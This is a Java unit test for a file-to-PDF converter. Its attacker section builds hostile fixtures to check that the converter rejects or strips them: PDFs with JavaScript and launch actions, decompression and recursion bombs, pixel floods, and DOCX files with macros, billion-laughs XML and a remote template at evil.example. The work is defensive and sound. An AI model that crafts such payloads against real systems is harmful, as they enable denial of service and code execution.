package org.dossierwerk.adapters.persistence.press;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;
import static org.dossierwerk.application.testkit.contract.FilePressContract.source;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.text.PDFTextStripper;
import org.dossierwerk.application.port.file.FilePress;
import org.dossierwerk.application.port.file.Unpressable;
import org.dossierwerk.application.testkit.contract.FilePressContract;
import org.dossierwerk.domain.documents.FileProblem;
import org.dossierwerk.domain.documents.FileType;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The press on real files, and on those of attackers (HOSTILE C). */
class PdfPressTest implements FilePressContract {

    private static final PdfPress PRESS = PdfPress.onClassPath();

    @Override
    public FilePress press() {
        return PRESS;
    }

    @Override
    public byte[] pdf(int pages) {
        return Samples.pdf(pages);
    }

    @Override
    public byte[] png() {
        return Samples.picture("png", 40, 30);
    }

    @Override
    public byte[] jpeg() {
        return Samples.picture("jpg", 40, 30);
    }

    // What people send

    @Test
    @Tag("DOC-12")
    void what_is_written_stays_readable_in_its_order() throws IOException {
        var first = Samples.pdf(document -> Samples.written(document, "eerste"));
        var second = Samples.pdf(document -> {
            Samples.written(document, "tweede");
            Samples.written(document, "derde");
        });
        try (var made = PRESS.press(List.of(source(first, FileType.PDF), source(second, FileType.PDF)));
                var pdf = Loader.loadPDF(made.open().readAllBytes())) {
            assertThat(new PDFTextStripper().getText(pdf).lines()).containsExactly("eerste", "tweede", "derde");
        }
    }

    @Test
    @Tag("DOC-13")
    void a_photograph_is_turned_as_it_was_held_and_tells_nothing_of_place_or_camera() throws IOException {
        var made = pressed(Samples.photograph(60, 40, 6), FileType.JPEG);
        assertThat(new String(made, ISO_8859_1)).doesNotContain("CANARY", "Exif");
        var page = preview(made, 210);
        assertThat(page.getHeight()).isGreaterThan(page.getWidth());
        assertThat(colour(page, 0.5, 0.25)).isEqualTo(Color.RED);
        assertThat(colour(page, 0.5, 0.75)).isEqualTo(Color.BLUE);
    }

    @Test
    void a_wide_picture_lies_on_its_side() throws IOException {
        var page = preview(pressed(Samples.picture("png", 60, 40), FileType.PNG), 210);
        assertThat(page.getWidth()).isEqualTo(210);
        assertThat(page.getWidth()).isGreaterThan(page.getHeight());
        assertThat(colour(page, 0.3, 0.5)).isEqualTo(Color.RED);
    }

    @Test
    void a_large_photograph_is_read_coarser() throws IOException {
        var made = pressed(Samples.picture("jpg", 8_000, 6_000), FileType.JPEG);
        try (var pdf = Loader.loadPDF(made)) {
            var resources = pdf.getPage(0).getResources();
            var image = (PDImageXObject)
                    resources.getXObject(resources.getXObjectNames().iterator().next());
            assertThat(image.getWidth()).isEqualTo(4_000);
        }
    }

    @Test
    void a_pdf_that_only_forbids_printing_is_taken() throws IOException {
        var made = pressed(locked("owner", ""), FileType.PDF);
        try (var pdf = Loader.loadPDF(made)) {
            assertThat(pdf.isEncrypted()).isFalse();
            assertThat(new PDFTextStripper().getText(pdf)).contains("geheim");
        }
    }

    @Test
    @Tag("DOC-13")
    void a_text_of_an_office_program_becomes_a_pdf() throws IOException {
        assumeThat(PRESS.takes()).as("LibreOffice is not installed").contains(FileType.DOCX);
        var made = pressed(Samples.docx("Arbeidsovereenkomst", Map.of()), FileType.DOCX);
        try (var pdf = Loader.loadPDF(made)) {
            assertThat(new PDFTextStripper().getText(pdf)).contains("Arbeidsovereenkomst");
        }
    }

    @Test
    @Tag("DOC-13")
    void a_picture_of_a_telephone_becomes_a_page(@TempDir Path folder) throws Exception {
        assumeThat(PRESS.takes()).as("libheif is not installed").contains(FileType.HEIC);
        var encoder = Tools.found("heif-enc");
        assumeThat(encoder).as("heif-enc is not installed").isPresent();
        var png = Files.write(folder.resolve("a.png"), Samples.picture("png", 640, 480));
        var heic = folder.resolve("a.heic");
        assertThat(new ProcessBuilder(encoder.get().toString(), "-o", heic.toString(), png.toString())
                        .redirectErrorStream(true)
                        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                        .start()
                        .waitFor())
                .isZero();
        var page = preview(pressed(Files.readAllBytes(heic), FileType.HEIC), 210);
        assertThat(colour(page, 0.25, 0.5).getRed()).isGreaterThan(200);
    }

    // What attackers send

    @Test
    void a_password_is_named_as_the_reason() throws IOException {
        refuses(FileProblem.PASSWORD, 0, source(locked("owner", "user"), FileType.PDF));
    }

    @Test
    void five_thousand_pages_are_too_many() {
        refuses(FileProblem.TOO_MANY_PAGES, 0, source(Samples.pdf(5_000), FileType.PDF));
    }

    @Test
    void a_pdf_that_was_cut_off_is_damaged() {
        var whole = Samples.pdf(document -> Samples.written(document, "heel"));
        refuses(FileProblem.DAMAGED, 0, source(Arrays.copyOf(whole, whole.length / 2), FileType.PDF));
        refuses(FileProblem.DAMAGED, 0, source(Arrays.copyOf(whole, whole.length - 8), FileType.PDF));
    }

    @Test
    void something_hung_behind_a_pdf_is_refused() {
        var whole = Samples.pdf(1);
        var longer = Arrays.copyOf(whole, whole.length + 5_000_000);
        refuses(FileProblem.DAMAGED, 0, source(longer, FileType.PDF));
        var archive = Samples.docx("x".repeat(3_000), Map.of("word/more.xml", new byte[4_000]));
        var polyglot = Arrays.copyOf(whole, whole.length + archive.length);
        System.arraycopy(archive, 0, polyglot, whole.length, archive.length);
        assumeThat(archive.length).isGreaterThan(600);
        refusesOrLeavesNoTrace(polyglot, "[Content_Types]");
    }

    @Test
    void a_few_bytes_behind_a_pdf_are_left_behind() throws IOException {
        var whole = Samples.pdf(1);
        var tail = "\r\n<script>alert(1)</script>".getBytes(UTF_8);
        var longer = Arrays.copyOf(whole, whole.length + tail.length);
        System.arraycopy(tail, 0, longer, whole.length, tail.length);
        assertThat(new String(pressed(longer, FileType.PDF), ISO_8859_1)).doesNotContain("script");
    }

    @Test
    void nothing_that_acts_or_is_attached_survives() throws IOException {
        var armed = Samples.pdf(document -> {
            var page = Samples.written(document, "gewapend");
            var catalog = document.getDocumentCatalog();
            catalog.setOpenAction(new PDActionJavaScript("app.alert('CANARY')"));
            var link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 100, 100));
            var launch = new PDActionLaunch();
            launch.getCOSObject().setString(COSName.F, "CANARY.exe");
            link.setAction(launch);
            page.getAnnotations().add(link);
            page.getCOSObject().setItem(COSName.AA, new PDActionJavaScript("CANARY"));
            var attached = new PDComplexFileSpecification();
            attached.setFile("CANARY.exe");
            attached.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream("CANARY".getBytes(UTF_8))));
            var tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("CANARY.exe", attached));
            var names = new PDDocumentNameDictionary(catalog);
            names.setEmbeddedFiles(tree);
            catalog.setNames(names);
            document.getDocumentInformation().setAuthor("CANARY");
        });
        var made = pressed(armed, FileType.PDF);
        try (var pdf = Loader.loadPDF(made)) {
            assertThat(new PDFTextStripper().getText(pdf)).contains("gewapend");
            assertThat(pdf.getPage(0).getAnnotations()).isEmpty();
            assertThat(pdf.getPage(0).getCOSObject().containsKey(COSName.AA)).isFalse();
            assertThat(pdf.getDocumentCatalog().getOpenAction()).isNull();
            assertThat(pdf.getDocumentCatalog().getNames()).isNull();
            assertThat(pdf.getDocumentInformation().getAuthor()).isNull();
            for (var key : pdf.getDocument().getXrefTable().keySet()) {
                assertThat(String.valueOf(
                                pdf.getDocument().getObjectFromPool(key).getObject()))
                        .doesNotContain("CANARY");
            }
        }
    }

    @Test
    void a_page_of_two_hundred_metres_is_refused() {
        var huge = Samples.pdf(document -> document.addPage(new PDPage(new PDRectangle(567_000, 567_000))));
        refuses(FileProblem.PICTURE_TOO_LARGE, 0, source(huge, FileType.PDF));
    }

    @Test
    void a_stream_that_unpacks_to_a_gigabyte_ends_its_process_and_nothing_else() {
        var begun = Instant.now();
        refuses(FileProblem.DAMAGED, 0, source(objectStreamBomb(), FileType.PDF));
        assertThat(Duration.between(begun, Instant.now())).isLessThan(Duration.ofSeconds(30));
    }

    @Test
    void pages_that_contain_themselves_are_refused_or_end() {
        var loop = """
                %PDF-1.4
                1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj
                2 0 obj <</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>> endobj
                trailer <</Root 1 0 R/Size 3>>
                %%EOF""";
        refuses(FileProblem.DAMAGED, 0, source(loop.getBytes(UTF_8), FileType.PDF));
    }

    @Test
    void arrays_nested_without_end_are_refused() {
        var nested = "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/X " + "[".repeat(2_000_000) + ">> endobj\n%%EOF";
        refuses(FileProblem.DAMAGED, 0, source(nested.getBytes(UTF_8), FileType.PDF));
    }

    @Test
    void a_flood_of_pixels_is_refused_by_its_header() {
        var begun = Instant.now();
        refuses(FileProblem.PICTURE_TOO_LARGE, 0, source(Samples.pngOf(60_000, 60_000), FileType.PNG));
        var claiming = Samples.picture("jpg", 40, 30);
        for (int i = 0; i < claiming.length - 9; i++) {
            if ((claiming[i] & 0xFF) == 0xFF && (claiming[i + 1] & 0xFF) == 0xC0) {
                Arrays.fill(claiming, i + 5, i + 9, (byte) 0xF0);
            }
        }
        refuses(FileProblem.PICTURE_TOO_LARGE, 0, source(claiming, FileType.JPEG));
        assertThat(Duration.between(begun, Instant.now())).isLessThan(Duration.ofSeconds(15));
    }

    @Test
    void a_picture_that_was_cut_off_is_damaged() {
        var jpeg = Samples.picture("jpg", 2_000, 1_000);
        refuses(FileProblem.DAMAGED, 0, source(Arrays.copyOf(jpeg, jpeg.length / 2), FileType.JPEG));
        var png = Samples.picture("png", 2_000, 1_000);
        refuses(FileProblem.DAMAGED, 0, source(Arrays.copyOf(png, png.length / 2), FileType.PNG));
    }

    @Test
    void an_office_file_that_acts_grows_or_points_outside_is_refused() {
        assumeThat(PRESS.takes()).as("LibreOffice is not installed").contains(FileType.DOCX);
        var bad = new LinkedHashMap<String, byte[]>();
        bad.put("macros", Samples.docx("x", Map.of("word/vbaProject.bin", new byte[10])));
        bad.put("a program", Samples.docx("x", Map.of("word/embeddings/oleObject1.bin", new byte[10])));
        bad.put("a bomb", Samples.docx("x", Map.of("word/media/a.png", new byte[120_000_000])));
        bad.put("a ratio", Samples.docx("x", Map.of("word/media/a.png", new byte[20_000_000])));
        bad.put("a billion laughs", Samples.docx("x", Map.of("word/a.xml", laughs())));
        bad.put("a remote template", Samples.docx("x", Map.of("word/_rels/document.xml.rels", remote())));
        bad.put("too many entries", Samples.docx("x", entries(1_100)));
        bad.forEach((why, file) -> refuses(FileProblem.DAMAGED, 0, source(file, FileType.DOCX)));
        refuses(FileProblem.MISNAMED, 0, source(Samples.docx("x", Map.of()), FileType.XLSX));
    }

    // How it looks

    private byte[] locked(String owner, String user) {
        return Samples.pdf(document -> {
            Samples.written(document, "geheim");
            var permission = new AccessPermission();
            permission.setCanPrint(false);
            var policy = new StandardProtectionPolicy(owner, user, permission);
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
        });
    }

    private static byte[] objectStreamBomb() {
        var packed = new ByteArrayOutputStream();
        try (var deflating = new DeflaterOutputStream(packed, new Deflater(9))) {
            var block = new byte[1024 * 1024];
            Arrays.fill(block, (byte) ' ');
            for (int i = 0; i < 1024; i++) {
                deflating.write(block);
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        var made = new ByteArrayOutputStream();
        made.writeBytes(("%PDF-1.5\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
                        + "3 0 obj <</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length " + packed.size()
                        + ">> stream\n")
                .getBytes(UTF_8));
        made.writeBytes(packed.toByteArray());
        made.writeBytes("\nendstream endobj\ntrailer <</Root 1 0 R/Size 4>>\n%%EOF".getBytes(UTF_8));
        return made.toByteArray();
    }

    private static byte[] laughs() {
        return "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>"
                .getBytes(UTF_8);
    }

    private static byte[] remote() {
        return ("<Relationships><Relationship Id=\"r\" Type=\"http://x/attachedTemplate\" "
                        + "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")
                .getBytes(UTF_8);
    }

    private static Map<String, byte[]> entries(int count) {
        var entries = new TreeMap<String, byte[]>();
        for (int i = 0; i < count; i++) {
            entries.put("word/e" + i + ".xml", new byte[0]);
        }
        return entries;
    }

    private void refusesOrLeavesNoTrace(byte[] file, String trace) {
        try {
            assertThat(new String(pressed(file, FileType.PDF), ISO_8859_1)).doesNotContain(trace);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        } catch (Unpressable refused) {
            assertThat(refused.problem()).isEqualTo(FileProblem.DAMAGED);
        }
    }

    private static BufferedImage preview(byte[] pdf, int width) throws IOException {
        return ImageIO.read(new ByteArrayInputStream(PRESS.preview(new ByteArrayInputStream(pdf), 1, width)));
    }

    /** Rounded, as a photograph changes colours a little. */
    private static Color colour(BufferedImage picture, double x, double y) {
        var seen = new Color(picture.getRGB((int) (picture.getWidth() * x), (int) (picture.getHeight() * y)));
        return new Color(rounded(seen.getRed()), rounded(seen.getGreen()), rounded(seen.getBlue()));
    }

    private static int rounded(int part) {
        return part > 200 ? 255 : part < 55 ? 0 : part;
    }
}
